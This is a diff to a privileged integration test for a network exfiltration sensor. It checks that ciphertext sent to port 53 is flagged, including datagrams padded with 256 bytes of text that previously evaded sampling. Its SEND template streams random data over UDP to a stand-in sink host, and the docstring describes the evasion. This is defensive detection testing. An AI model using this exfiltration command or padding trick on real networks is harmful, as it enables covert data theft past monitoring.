@@ -4,7 +4,10 @@ Egress to port 53 is allowed where little else is. Everything sent there
 was counted as DNS framing without a look at it (header bytes, never
 opaque), and SL-EXF-002 skipped UDP 53 by its port: 3 MB of ciphertext in
 datagrams to the sink's port 53 raised nothing. Only DNS queries are DNS
-now; the rest is judged by its bytes. Beside it, a container that resolves
+now; the rest is judged by its bytes. And a packet to port 53 was read
+once, its first 256 bytes, the rest taking their class: 256 bytes of text
+in front of each big datagram hid the rest. A packet too long to be a
+query is now sampled like any other (the second read inside it). Beside it, a container that resolves
 names against the same server raises no SL-EXF-002."""
 
 from __future__ import annotations
@@ -12,6 +15,8 @@ from __future__ import annotations
 import time
 from pathlib import Path
 from typing import Any
+
+import pytest
 
 from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container
 
@@ -22,8 +27,13 @@ SEND = (
     "openssl rand {n} > /tmp/ct && perl -MIO::Socket::INET -e '"
     'my $s = IO::Socket::INET->new(PeerAddr => "{ip}", PeerPort => 53, Proto => "udp") or die "socket: $!";'
     'open(my $f, "<", "/tmp/ct") or die; binmode $f; my $b;'
-    "while (read($f, $b, 1200)) {{ $s->send($b); select(undef, undef, undef, 0.0005) }}'"
+    'while (read($f, $b, {size})) {{ $s->send(("x" x {text}) . $b); select(undef, undef, undef, 0.0005) }}\''
 )
+# (ciphertext bytes per datagram, cleartext in front of them): datagrams of
+# ciphertext; and big ones whose first 256 bytes are text, the whole of
+# what the kernel read of a packet to port 53 before (the rest took the
+# class of what was read)
+SHAPES = [(1200, 0), (7936, 256)]
 
 
 def _summary_of(d: dict[str, Any], cid: str) -> bool:
@@ -34,8 +44,11 @@ def _exf2(d: dict[str, Any], cid: str) -> bool:
     return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == "SL-EXF-002" and cid_of(d) == cid
 
 
-def test_ciphertext_datagrams_to_port_53_are_raw(base: Path, docker: Docker, net: SinkNet) -> None:
-    s = SensorProc(base, docker.sock, name="dnsraw")
+@pytest.mark.parametrize(("size", "text"), SHAPES)
+def test_ciphertext_datagrams_to_port_53_are_raw(
+    base: Path, docker: Docker, net: SinkNet, size: int, text: int
+) -> None:
+    s = SensorProc(base, docker.sock, name=f"dnsraw{text}")
     s.start()
     try:
         lookups = run_container(
@@ -44,7 +57,7 @@ def test_ciphertext_datagrams_to_port_53_are_raw(base: Path, docker: Docker, net
             "for i in 1 2 3 4 5 6 7 8 9 10; do nslookup host$i.example.test " + SINK_IP + " >/dev/null 2>&1; done",
             wait=True,
         )
-        raw = run_container(docker, net, SEND.format(n=UPLOAD, ip=SINK_IP), wait=True)
+        raw = run_container(docker, net, SEND.format(n=UPLOAD, ip=SINK_IP, size=size, text=text), wait=True)
         a = s.wait_for(lambda d: _exf2(d, raw), what="SL-EXF-002 for ciphertext to port 53", timeout=20)
         ev = a["sluice"]["evidence"]
         assert ev["kind"] == "raw_encrypted_datagrams" and ev["protocol_hint"] is None, ev
@@ -56,10 +69,10 @@ def test_ciphertext_datagrams_to_port_53_are_raw(base: Path, docker: Docker, net
             assert time.monotonic() < deadline, "the upload's windows were not all summarised"
             time.sleep(0.2)
         enc = sum(d["sluice"]["payload"]["encrypted_bytes"] for d in s.docs() if _summary_of(d, raw))
-        assert enc >= 0.9 * UPLOAD, enc
+        assert enc >= 0.85 * UPLOAD, enc
         # the datagrams reached the sink: the kernel let them out, the alert is the answer
         got = sum(r["bytes"] for r in net.received() if r.get("proto") == "udp" and r.get("port") == 53)
-        assert got >= UPLOAD, got
+        assert got >= UPLOAD + UPLOAD // size * text, got
         # the real lookups: DNS, no SL-EXF-002
         flows = [
             d
